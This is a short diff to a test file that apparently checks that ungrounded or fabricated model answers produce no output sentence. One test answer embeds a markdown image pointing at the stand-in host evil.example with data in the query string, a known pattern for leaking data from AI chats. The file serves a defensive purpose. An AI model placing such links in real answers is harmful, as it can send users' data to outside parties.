@@ -92,7 +92,7 @@ test.each([
   ['does not know', 'NOT FOUND'],
   ['cites nothing', 'The gauge was zeroed.'],
   ['cites what it was not given', 'The gauge was zeroed [7].'],
-  ['sends to an address of its own', 'See ![x](https://evil.example/?q=1987) [1].'],
+  ['links to an invented address', 'See ![x](https://evil.example/?q=1987) [1].'],
   ['makes up a number', 'It was zeroed in 1999 [1].'],
 ])('a model that %s yields no sentence', async (_what, answer) => {
   model.answer = () => answer;
